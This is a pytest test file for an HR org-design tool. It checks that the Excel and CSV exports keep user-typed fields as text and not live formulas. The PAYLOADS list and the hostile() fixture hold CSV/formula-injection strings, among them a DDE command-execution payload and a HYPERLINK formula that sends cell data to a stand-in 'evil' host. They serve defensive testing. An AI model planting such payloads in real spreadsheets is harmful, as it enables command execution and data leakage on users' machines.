"""The HR workbook as written through XlsxWriter, the sheet hook, and formula injection in every writer."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from orgdesigner import resources
from orgdesigner.formats import establishment, hr_workbook, native, organogram, transparency
from orgdesigner.formats.cells import Formula
from orgdesigner.formats.sheet_kit import MONEY, Book
from orgdesigner.model.document import Document
from orgdesigner.model.edits import UpdatePost
from orgdesigner.model.errors import FileProblem

# Each is what an attacker types into a field that reaches a cell: DDE, a link out, arithmetic.
PAYLOADS = ["=cmd|' /C calc'!A0", '+HYPERLINK("http://evil/?x="&A1)', "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
OUR_FORMULAS = r"=SUM\([C-G]2:[C-G]\d+\)|=E\d+\+F\d+|=COUNTIF\((\$D\$2:\$D\$\d+|Establishment\[Layer\]),[GJ]\d+\)"
SAVINGS_FORMULAS = (  # the Savings profile sheet's own: dates, part-year effects, totals (no user text)
    r"=DATE\(\d+,\d+,\d+\)",
    r"=\$E\d+\*MAX\(0,MIN\(1,\(DATE\(\d+,4,1\)-MAX\(\$D\d+,DATE\(\d+,4,1\)\)\)/\(DATE\(\d+,4,1\)-DATE\(\d+,4,1\)\)\)\)",
    r"=SUM\([A-Z]+\d+:[A-Z]+\d+\)\*\$B\$3",
    r'=SUMIF\(\$D\$\d+:\$D\$\d+,"\d{4}/\d{2}",\$E\$\d+:\$E\$\d+\)\*\(1\+\$B\$4\)',
    r"=[A-Z]+\d+([-+][A-Z]+\d+)?",
)
OUR_FORMULAS = "|".join((OUR_FORMULAS, *SAVINGS_FORMULAS))


def hostile() -> Document:
    """The Cheshire East proposal with a formula in every text field a user can type."""
    document = native.load(resources.template("cheshire-east-2013"))
    document.organisation = '=HYPERLINK("http://evil")'
    document.scenarios[0].name = "=1+1 current"
    s = document.scenario("Proposed").structure
    for n, post_id in enumerate(["COO", "DSC", "CSM-OD"]):
        payload = PAYLOADS[n % len(PAYLOADS)]
        fields = {f: f"{PAYLOADS[(n + i) % len(PAYLOADS)]} {f}" for i, f in enumerate(("grade", "function", "team"))}
        s.apply(UpdatePost(post_id, {"title": payload, "notes": PAYLOADS[n + 3], "incumbent": f"@{post_id}", **fields}))
    return document


def _cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def test_no_text_field_becomes_a_formula_in_the_workbook(tmp_path: Path) -> None:
    out = tmp_path / "hr.xlsx"
    hr_workbook.export_workbook(hostile(), out)
    cells = _cells(out)
    formulas = [c for c in cells if c.data_type == "f"]
    assert formulas, "the Costs and Spans sheets hold live formulas of our own"
    assert all(re.fullmatch(OUR_FORMULAS, str(c.value)) for c in formulas), [c.value for c in formulas]
    texts = {c.value: c for c in cells if c.data_type == "s"}
    cover = openpyxl.load_workbook(out)["Cover"]
    assert cover["A1"].value == '=HYPERLINK("http://evil"): establishment' and cover["A1"].data_type == "s"
    for text in ["=cmd|' /C calc'!A0", '+HYPERLINK("http://evil/?x="&A1)', "@COO"]:
        assert texts[text].quotePrefix, f"{text!r} is kept as text even when edited in Excel"
    assert "\n=1+1" in {str(v)[:5] for v in texts}  # a leading CR becomes Excel's line break, as text


def test_no_text_field_becomes_a_formula_in_the_organogram_or_transparency_csvs(tmp_path: Path) -> None:
    document = hostile()
    senior, junior, tiers = tmp_path / "s.csv", tmp_path / "j.csv", tmp_path / "t.csv"
    organogram.export_organogram(document, senior, junior)
    transparency.export_transparency(document, tiers)
    seen = set()
    for path in (senior, junior, tiers):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                for value in row:
                    assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), f"{path.name}: {value!r}"
                    seen.add(value)
    assert '\'=HYPERLINK("http://evil")' in seen  # the organisation, marked as text
    assert "'=cmd|' /C calc'!A0" in seen  # a job title
    # Imported again, the titles come back as typed: the importer drops the mark.
    again, _ = organogram.import_organogram(senior, junior)
    assert {p.title for p in again.scenario().structure} >= {"=cmd|' /C calc'!A0", "-2+3"}


def test_formulas_keep_their_values_for_previews(tmp_path: Path) -> None:
    """Protected View, mail previews and openpyxl's data_only read the stored value, not the formula."""
    out = tmp_path / "hr.xlsx"
    hr_workbook.export_workbook(hostile(), out)
    formulas = openpyxl.load_workbook(out)["Costs"]
    values = openpyxl.load_workbook(out, data_only=True)["Costs"]
    last = formulas.max_row
    assert formulas.cell(last, 7).value.startswith("=SUM(")
    assert values.cell(last, 7).value == pytest.approx(sum(values.cell(r, 7).value for r in range(2, last)))
    assert values["G2"].value == pytest.approx(values["E2"].value + values["F2"].value)
    spans = openpyxl.load_workbook(out, data_only=True)["Spans & layers"]
    managers = sum(1 for r in range(2, spans.max_row + 1) if isinstance(spans.cell(r, 4).value, int))
    assert sum(spans.cell(r, 8).value or 0 for r in range(2, spans.max_row + 1)) == managers


def test_spans_and_layers_have_native_charts(tmp_path: Path) -> None:
    out = tmp_path / "hr.xlsx"
    hr_workbook.export_workbook(hostile(), out)
    with zipfile.ZipFile(out) as archive:
        charts = [n for n in archive.namelist() if n.startswith("xl/charts/chart")]
        titles = "".join(archive.read(n).decode() for n in charts)
    assert len(charts) == 2
    assert "Managers by span" in titles and "Posts by layer" in titles


def test_a_sheet_added_by_another_module_appears_in_its_place(tmp_path: Path) -> None:
    def training_costs(book: Book) -> None:
        sheet = book.table("Training costs", ["Post ID", "Job Title", "Cost (£)"], {"Cost (£)": MONEY})
        for post in book.structure:
            sheet.add([post.id, post.title, 1000.0])
        rows = len(book.structure)
        sheet.close("TrainingCosts", totals=["Total", "", Formula(f"=SUM(C2:C{rows + 1})", 1000.0 * rows)])

    out = tmp_path / "hr.xlsx"
    sheets = (*hr_workbook.SHEETS[:2], training_costs, *hr_workbook.SHEETS[2:])
    hr_workbook.export_workbook(hostile(), out, sheets=sheets)
    book = openpyxl.load_workbook(out)
    assert book.sheetnames[:3] == ["Cover", "Establishment", "Training costs"]
    added = book["Training costs"]
    assert "TrainingCosts" in added.tables and added["C2"].number_format == MONEY
    assert openpyxl.load_workbook(out, data_only=True)["Training costs"].cell(added.max_row, 3).value > 0


def test_a_failed_export_leaves_the_previous_workbook_and_no_temporary_file(tmp_path: Path) -> None:
    out = tmp_path / "hr.xlsx"
    hr_workbook.export_workbook(hostile(), out)
    before = out.read_bytes()

    def broken(book: Book) -> None:
        raise FileProblem("the exit costs could not be worked out")

    with pytest.raises(FileProblem, match="exit costs"):
        hr_workbook.export_workbook(hostile(), out, sheets=(*hr_workbook.SHEETS, broken))
    assert out.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["hr.xlsx"]


def test_text_that_looks_like_excels_escapes_comes_back_as_typed(tmp_path: Path) -> None:
    """Excel's file format escapes '_x0041_' in text; the writer and the import agree on it."""
    document = hostile()
    s = document.scenario("Proposed").structure
    s.apply(UpdatePost("COO", {"title": "Head _x0041_ of OD", "notes": "line one\r\nline two"}))
    out = tmp_path / "hr.xlsx"
    hr_workbook.export_workbook(document, out)
    back = establishment.import_establishment(out).document.scenario().structure
    assert back.post("COO").title == "Head _x0041_ of OD"
    assert back.post("COO").notes == "line one\nline two"
    assert back.post("DSC").title == '+HYPERLINK("http://evil/?x="&A1)'


def test_a_lone_surrogate_or_control_character_in_a_title_is_written_not_fatal(tmp_path: Path) -> None:
    """Text pasted from old systems can hold what no file can encode; every writer still writes it all."""
    document = hostile()
    document.scenario("Proposed").structure.apply(UpdatePost("COO", {"title": "Chief\ud800 Operating\x07 Officer"}))
    out, senior, tiers = tmp_path / "hr.xlsx", tmp_path / "s.csv", tmp_path / "t.csv"
    hr_workbook.export_workbook(document, out)
    organogram.export_organogram(document, senior, None)
    transparency.export_transparency(document, tiers)
    assert "Chief\ufffd Operating Officer" in {c.value for c in _cells(out)}
    for path in (senior, tiers):
        assert "Chief\ufffd Operating Officer" in path.read_text(encoding="utf-8-sig")


def test_an_export_cancelled_through_its_progress_leaves_no_file(tmp_path: Path) -> None:
    """The window cancels by raising from the progress callback: nothing is left behind."""

    class Cancelled(Exception):
        pass

    seen: list[str] = []

    def progress(_percent: int, what: str) -> None:
        seen.append(what)
        if what == "Findings":
            raise Cancelled

    with pytest.raises(Cancelled):
        hr_workbook.export_workbook(hostile(), tmp_path / "hr.xlsx", progress=progress)
    assert "Establishment" in seen
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("name", sorted(resources.templates()))
def test_every_template_and_scenario_writes_a_workbook_openpyxl_reads_whole(tmp_path: Path, name: str) -> None:
    """Blank files too: every sheet opens, every table covers exactly its header and rows."""
    document = native.load(resources.template(name))
    for scenario in document.scenarios:
        for names in (True, False):
            out = tmp_path / f"{scenario.name}-{names}.xlsx"
            hr_workbook.export_workbook(document, out, scenario.name, names=names)
            book = openpyxl.load_workbook(out)
            assert book.sheetnames[:2] == ["Cover", "Establishment"]
            for ws in book.worksheets:
                for table in ws.tables.values():
                    first, last = table.ref.split(":")
                    assert first == "A1"
                    header = [c.value for c in ws[1]][: len(table.tableColumns)]
                    assert header == [c.name for c in table.tableColumns], ws.title
                    assert int(last.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")) in (ws.max_row, ws.max_row - 1, 2)
